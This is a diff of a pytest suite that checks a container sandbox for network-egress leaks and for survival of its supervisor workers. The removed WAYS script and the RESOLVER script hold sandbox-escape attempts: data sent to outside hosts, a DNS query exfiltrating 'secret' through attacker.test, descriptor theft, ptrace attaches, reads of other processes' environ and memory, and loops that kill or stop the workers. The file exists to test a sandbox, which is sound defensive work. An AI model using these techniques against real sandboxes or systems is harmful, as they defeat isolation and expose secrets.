@@ -1,194 +1,19 @@
 """Ways out of the cell, in its three forms, judged on the wire; and what becomes of its worker."""
 
+import json
 import subprocess
 
 import pytest
 from cell_forms import FORMS, LIMIT, CellRunner, left, runner  # noqa: F401
-from conftest import IMAGE
+from cell_ways import WAYS
+from conftest import IMAGE, SCOPED, SHARED, until
 from internet import Wire, address_of
 
-WAYS = r"""
-import array, ctypes, errno, fcntl, os, select, signal, socket, struct, sys, threading, time
-libc = ctypes.CDLL(None, use_errno=True)
-OUT = "8.8.8.8"
-def quiet(f, *a):
-    try: return f(*a)
-    except (OSError, TypeError, OverflowError) as e: return e
-def aim(s, to=(OUT, 443)):
-    s.setblocking(False)
-    quiet(s.connect, to)
-    select.select([], [s], [], 0.05)
-    quiet(s.send, b"leaked")
-def tcp(): return socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-def throw(s):
-    s.setblocking(False)
-    quiet(s.connect, (OUT, 443))
-    quiet(s.send, b"leaked")
-def sockets():
-    for family in range(50):
-        for kind in (1, 2, 3, 5, 6, 10):
-            for protocol in (0, 1, 6, 17, 41, 47, 58, 132, 136, 255, 262):
-                s = quiet(socket.socket, family, kind, protocol)
-                if isinstance(s, socket.socket):
-                    if family not in (1, 16):
-                        quiet(s.sendto, b"leaked", (OUT, 53))
-                        aim(s) if kind == 1 else None
-                    s.close()
-def udp():
-    s = quiet(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
-    assert isinstance(s, OSError), "udp"
-def rebinding():
-    for device in os.listdir("/sys/class/net"):
-        s = tcp()
-        quiet(s.setsockopt, socket.SOL_SOCKET, 25, device.encode() + b"\0")
-        quiet(s.setsockopt, socket.SOL_SOCKET, 25, b"")
-        for level, name in ((1, 62), (0, 50), (41, 76), (1, 36), (0, 15), (0, 19), (1, 5)):
-            for index in range(4):
-                quiet(s.setsockopt, level, name, struct.pack("i", index))
-                quiet(s.setsockopt, level, name, struct.pack(">i", index))
-        aim(s)
-def every_option():
-    values = [struct.pack("i", n) for n in range(4)] + [b"", b"eth0\0", struct.pack("=HHI8x", 2, 0, 0)]
-    held = []
-    for level in (0, 1, 6, 17, 41, 132, 255, 263, 284):
-        for name in range(130):
-            s = tcp()
-            if [v for v in values if not isinstance(quiet(s.setsockopt, level, name, v), Exception)]:
-                throw(s)
-                held.append(s)
-            assert s.getsockopt(socket.SOL_SOCKET, 25, 16) == b"lo\0", (level, name)
-    assert len(held) > 30
-    time.sleep(0.2)
-def sources():
-    for own in (socket.gethostbyname(socket.gethostname()), "127.0.0.1", "8.8.4.4"):
-        s = tcp()
-        quiet(s.bind, (own, 0))
-        aim(s)
-def disconnecting():
-    s = tcp()
-    for _ in range(3):
-        libc.connect(s.fileno(), struct.pack("H14x", 0), 16)
-        aim(s)
-    l = tcp(); l.bind(("127.0.0.1", 0)); l.listen()
-    s = tcp(); s.connect(l.getsockname()); a, _ = l.accept()
-    for one in (s, a):
-        libc.connect(one.fileno(), struct.pack("H14x", 0), 16)
-        aim(one)
-def fast_open():
-    for option in (23, 30, 34):
-        s = tcp(); s.setblocking(False)
-        quiet(s.setsockopt, 6, option, 1)
-        quiet(s.setsockopt, 6, 34, 1)
-        quiet(s.sendto, b"leaked", 0x20000000, (OUT, 443))
-        aim(s)
-def packet_info():
-    s = tcp(); s.setblocking(False)
-    for index in range(4):
-        data = struct.pack("I4s4s", index, b"\0" * 4, b"\0" * 4)
-        quiet(s.sendmsg, [b"leaked"], [(0, 8, data)], 0x20000000, (OUT, 443))
-def mapped():
-    for index in range(4):
-        s = quiet(socket.socket, socket.AF_INET6, socket.SOCK_STREAM)
-        if isinstance(s, socket.socket):
-            quiet(s.bind, ("fe80::dead", 0, 0, index))
-            aim(s, ("::ffff:" + OUT, 443))
-def passed():
-    a, b = socket.socketpair()
-    if os.fork() == 0:
-        s = tcp()
-        socket.send_fds(a, [b"x"], [s.fileno()]); os._exit(0)
-    _, fds, _, _ = socket.recv_fds(b, 1, 1)
-    aim(socket.socket(fileno=fds[0]))
-def taken():
-    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
-        fd = libc.syscall(434, pid, 0)
-        for n in range(40):
-            got = libc.syscall(438, fd, n, 0) if fd >= 0 else -1
-            if got >= 0 and pid != os.getpid():
-                sys.exit(f"took descriptor {n} of {pid}")
-        if pid != os.getpid() and libc.ptrace(0x4206, pid, 0, 0) == 0 and open(f"/proc/{pid}/comm").read().startswith("codex-"):
-            sys.exit(f"traced {pid}")
-        for name in ("mem", "fd/3", "fd/5", "environ", "auxv"):
-            if pid != os.getpid() and open(f"/proc/{pid}/comm").read().startswith("codex-"):
-                f = quiet(os.open, f"/proc/{pid}/{name}", os.O_RDONLY)
-                assert isinstance(f, OSError), (pid, name)
-def listeners():
-    # a filter of one's own that would answer for all: SECCOMP_RET_USER_NOTIF, then CONTINUE
-    code = struct.pack("HBBI", 6, 0, 0, 0x7fc00000)
-    class P(ctypes.Structure):
-        _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_char_p)]
-    assert libc.syscall(317, 1, 8, ctypes.byref(P(1, code))) < 0, "listener"
-def namespaces():
-    assert libc.unshare(0x10000000 | 0x40000000) < 0
-    assert libc.syscall(435, ctypes.create_string_buffer(88), 88) < 0
-    assert libc.syscall(425, 8, ctypes.create_string_buffer(120)) < 0
-def races():
-    stop = []
-    def meddle():
-        while not stop:
-            for fd in range(5, 20): quiet(os.dup2, 0, fd)
-            for fd in range(5, 20): quiet(os.close, fd)
-    def make():
-        for _ in range(60):
-            s = quiet(tcp)
-            if isinstance(s, socket.socket):
-                quiet(aim, s)
-                s.detach()
-    threads = [threading.Thread(target=make) for _ in range(8)]
-    m = threading.Thread(target=meddle); m.start()
-    for t in threads: t.start()
-    for t in threads: t.join()
-    stop.append(1); m.join()
-def interrupted():
-    signal.signal(signal.SIGALRM, lambda *_: None)
-    signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
-    for _ in range(1000):
-        s = quiet(tcp)
-        if isinstance(s, socket.socket): throw(s)
-    signal.setitimer(signal.ITIMER_REAL, 0)
-    for _ in range(40):
-        pid = os.fork()
-        while pid == 0:
-            s = quiet(tcp)
-            if isinstance(s, socket.socket): throw(s)
-        time.sleep(0.003)
-        os.kill(pid, 9)
-        os.waitpid(pid, 0)
-    throw(tcp())
-def executed():
-    def make():
-        while True: libc.socket(2, 1, 0)
-    for _ in range(4): threading.Thread(target=make, daemon=True).start()
-    time.sleep(0.02)
-    os.execv(sys.executable, [sys.executable, "-c", sys.orig_argv[2], "inherited"])
-def inherited():
-    for fd in [int(n) for n in os.listdir("/proc/self/fd") if int(n) > 2]:
-        s = quiet(lambda: socket.socket(fileno=fd))
-        if isinstance(s, socket.socket): throw(s)
-    time.sleep(0.2)
-def flood():
-    held = []
-    while True:
-        s = quiet(tcp)
-        if isinstance(s, OSError): break
-        held.append(s)
-    for s in held[:50]: aim(s)
-def signals():
-    me = os.getpid()
-    for _ in range(4):
-        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
-            try: comm = open(f"/proc/{pid}/comm").read()
-            except OSError: continue
-            if pid == 1 or comm.startswith("codex-"):
-                for sig in (19, 9): quiet(os.kill, pid, sig)
-        s = quiet(tcp)
-        if isinstance(s, socket.socket): aim(s)
-        time.sleep(0.3)
-globals()[sys.argv[1]]()
-print("tried")
-"""
+# The default network has none, but what the kernel gives each device.
+IPV6 = ("--sysctl", "net.ipv6.conf.all.disable_ipv6=0", "--sysctl", "net.ipv6.conf.default.disable_ipv6=0")
+
 NAMES = [line[4:].split("(")[0] for line in WAYS.splitlines() if line.startswith("def ")]
-TRIED = [n for n in NAMES if n not in ("quiet", "aim", "tcp", "throw", "inherited")]
+TRIED = [n for n in NAMES if n not in ("quiet", "aim", "tcp", "throw", "inherited", "answering")]
 
 
 @pytest.mark.parametrize("way", TRIED)
@@ -198,42 +23,101 @@ def test_no_way_out(runner, way, sinks, wire):
     assert left(wire, sinks) == ([], [])
 
 
-def test_the_same_leave_without_the_cell(lab, internet, sinks):
+def test_the_same_leave_without_the_cell(lab, internet, sinks, wire):
     """The opposite: so the ways are ways, and the judge sees them."""
     plain = CellRunner(lab, ("--cap-drop=ALL",))
-    for way in ("sources", "disconnecting", "mapped", "passed"):
+    ways = dict.fromkeys(("sources", "disconnecting", "mapped", "passed", "traced"), sinks)
+    for way, judge in (*ways.items(), ("groups", wire)):  # which no router passes on
         internet.reset()
+        wire.mark()
         made = plain.arguments(("python3", "-c", WAYS, way), None, None, LIMIT, None, None, ["--egress=off"], False)
         plain.docker("run", "--rm", "--pull=never", *made)
-        assert sinks.seen() != [], way
+        until(judge.seen, way)
 
 
-def test_ipv6_is_as_strict(runner, network, sinks, wire):
-    net = network("--ipv6", "--subnet", "fd77:1:7::/64")
+def test_a_connection_at_any_descriptor_is_not_handed_down(runner):
+    """Of those that aren't standard ones the command gets none (of these: test_cell.py)."""
+    script = (
+        "import os, socket; s = socket.create_server(('127.0.0.1', 0));"
+        "c = socket.create_connection(s.getsockname()); u = socket.socket(2, 2);"
+        "[os.dup2(each.fileno(), fd) for each, fd in ((c, 3), (u, 9), (u, 300), (s, 77))];"
+        "os.execv('/sbin/codex-init', ['codex-init', '--', 'sh', '-c', 'readlink /proc/self/fd/* | grep -c socket'])"
+    )
+    made = [*runner.flags, "--entrypoint", "python3", IMAGE, "-c", script]
+    assert runner.docker("run", "--rm", "--pull=never", *made).ok(1).out == "0\n"
+
+
+def test_ipv6_is_as_strict(runner, sinks, wire):
     for way in ("mapped", "sockets"):
-        done = runner.run("python3", "-c", WAYS, way, network=net, options=LIMIT)
+        done = runner.run("python3", "-c", WAYS, way, options=(*LIMIT, *IPV6))
         assert done.ok().out.strip().endswith("tried"), done
     assert left(wire, sinks) == ([], [])
 
 
 RESOLVER = """
-import socket, struct
-s = socket.socket(); s.settimeout(1)
+import ctypes, socket, struct
 q = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\\6secret\\10attacker\\4test\\0" + struct.pack(">HH", 1, 1)
-for port in (53, *range(30000, 30010)):
-    try:
-        s = socket.socket(); s.settimeout(1); s.connect(("127.0.0.11", port))
-        s.send(struct.pack(">H", len(q)) + q); print(s.recv(100))
-    except OSError as e: print(e)
+servers = [socket.create_server(("127.0.0.1", 0)) for i in range(2)]
+connect = ctypes.CDLL(None).connect
+
+def made():
+    return socket.socket()
+
+def again():
+    s = socket.create_connection(servers[0].getsockname())
+    servers[0].accept()
+    connect(s.fileno(), bytes(16), 16)  # AF_UNSPEC: as good as new
+    return s
+
+def accepted():
+    socket.create_connection(servers[1].getsockname()).close()
+    s = servers[1].accept()[0]
+    connect(s.fileno(), bytes(16), 16)
+    return s
+
+def twice():
+    server = accepted()
+    server.listen()
+    socket.create_connection(server.getsockname()).close()
+    s = server.accept()[0]
+    connect(s.fileno(), bytes(16), 16)
+    return s
+
+while True:
+    for make in (made, again, accepted, twice):
+        try:
+            s = make()
+            s.settimeout(0.2)
+            s.connect(("127.0.0.11", 53))
+            s.send(struct.pack(">H", len(q)) + q)
+            s.recv(100)
+        except OSError as e:
+            print(e, flush=True)
 """
 
 
-def test_the_engines_resolver_carries_nothing(runner, network, dns):
-    net = network()
-    done = runner.run("python3", "-c", RESOLVER, network=net)
-    assert dns.asked("attacker.test") == [] and "b'" not in done.out, done
-    done = runner.run("curl", "-sS", "https://api.openai.com/", network=net).ok()
-    assert done.out == "this is api.openai.com\n"
+def test_where_the_engines_resolver_is_it_does_not_start(runner, network, dns):
+    done = runner.run("sh", "-c", "echo ran; getent hosts secret.attacker.test", network=network()).ok(111)
+    assert "use the cell: 127.0.0.11: " in done.err and "on the default network it isn't" in done.err, done
+    assert done.out == "" and dns.asked("attacker.test") == []
+
+
+@pytest.mark.parametrize("init", [(), ("--init",)], ids=["process 1", "docker-init"])
+def test_where_it_comes_later_the_command_ends(runner, start, network, dns, docker, init):
+    box = start("python3", "-c", RESOLVER, options=(*LIMIT, *init))
+    box.until_says("refused")  # nobody is there
+    assert dns.asked("attacker.test") == []
+    docker("network", "connect", network(), box.name).ok()
+    assert box.wait() == 137
+    assert "connected to a user-defined network" in box.logs()
+
+
+def test_another_change_of_its_networks_is_none_of_its_business(start, docker):
+    box = start("sh", "-c", "echo up; read x", options=["-i"])
+    box.until_says("up")
+    docker("network", "disconnect", "bridge", box.name).ok()
+    docker("network", "connect", "bridge", box.name).ok()
+    assert box.exec("true").status == 0
 
 
 def test_neighbours_and_the_gateway_are_refused(runner, start, wire, sinks):
@@ -331,7 +215,28 @@ def test_they_leave_without_the_cell(lab, internet, tmp_path, sinks):
         internet.reset()
         made = build(tmp_path, "odd", *KINDS[kind])
         docker("run", "--rm", "--pull=never", "-v", f"{made}:/odd:ro", "--entrypoint", "timeout", IMAGE, "2", "/odd")
-        assert sinks.seen() != [], kind
+        until(sinks.seen, kind)
+
+
+ATTACH = "import ctypes; print(ctypes.CDLL(None).ptrace(16, 1, 0, 0))"
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_a_process_one_that_the_command_could_trace_ends_the_start(lab, internet, tmp_path, form):
+    """The engine's, with the command's user id, on a kernel or under a profile without Landlock."""
+    profile = tmp_path / "profile.json"
+    without = {"names": ["landlock_create_ruleset"], "action": "SCMP_ACT_ERRNO", "errnoRet": 38}
+    profile.write_text(json.dumps({"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [without]}))
+    told = ("--security-opt", f"seccomp={profile}")
+    runner = CellRunner(lab, FORMS[form])
+    done = runner.run("python3", "-c", ATTACH, options=(*told, "--init"))
+    if form in SHARED:
+        done.ok(111)
+        assert done.out == "" and "--init: the command could trace process 1" in done.err, done
+    else:
+        assert done.ok().out == "-1\n"
+    for options in ((*told,), ("--init",) if SCOPED else ()):
+        assert runner.run("python3", "-c", ATTACH, options=options).ok().out == "-1\n", options
 
 
 # ---- Workers that are ended ------------------------------------------------------------------
@@ -341,7 +246,7 @@ def test_workers_that_are_killed_come_back(runner, sinks):
     """Where the command has the workers' uid it may end them; it pays for that alone."""
     done = runner.shell(
         "for c in /proc/[0-9]*/comm; do grep -q ^codex- $c && p=${c%/comm} && kill -9 ${p#/proc/}; done;"
-        "sleep 1; curl -sS -m 20 --retry 5 --retry-all-errors https://api.openai.com/",
+        "sleep 1; curl -sS -m 50 --retry 5 --retry-all-errors https://api.openai.com/",
         options=LIMIT,
     ).ok()
     assert done.lines()[-1] == "this is api.openai.com"
@@ -351,7 +256,7 @@ def test_workers_that_are_killed_come_back(runner, sinks):
 def test_workers_that_are_stopped_go_on(runner, sinks):
     done = runner.shell(
         "for c in /proc/[0-9]*/comm; do grep -q ^codex- $c && p=${c%/comm} && kill -STOP ${p#/proc/}; done;"
-        "curl -sS -m 20 https://api.openai.com/",
+        "curl -sS -m 50 https://api.openai.com/",
     ).ok()
     assert done.lines()[-1] == "this is api.openai.com"
 
@@ -385,7 +290,7 @@ print("done", before > 10)
     # A stop by root is meant, and stays.
     for sign in ("STOP", "KILL", "KILL", "STOP", "CONT"):
         box.exec("sh", "-c", find, "sh", sign, user=user)
-    assert box.wait(60) == 0, box.logs()
+    assert box.wait() == 0, box.logs()
     assert "done True" in box.logs()
     assert left(wire, sinks) == ([], [])
 
@@ -411,4 +316,18 @@ except OSError as e: print(errno.errorcode[e.errno])
     done = plain.run("python3", "-c", script, timeout=120).ok()
     if "had one" not in done.out:  # a kernel with Landlock's scopes keeps the workers from it
         assert "ENOSYS" in done.out, done
+    assert left(wire, sinks) == ([], [])
+
+
+def test_when_it_stays_down_nobody_else_answers(start, runner, sinks, wire):
+    box = start("python3", "-c", WAYS, "answering", options=LIMIT).until_says("begun")
+    user = "1000" if "--user" in runner.flags else "0"
+    kill = "for c in /proc/[0-9]*/comm; do [ $(cat $c) != codex-cell ] || { p=${c%/comm}; kill -9 ${p#/proc/}; }; done"
+
+    def ended():
+        box.exec("sh", "-c", kill, user=user)
+        return box.inspect(".State.Running") != "true"
+
+    until(ended, box.logs, 300)
+    assert box.wait() == 0 and "tried" in box.logs(), box.logs()
     assert left(wire, sinks) == ([], [])
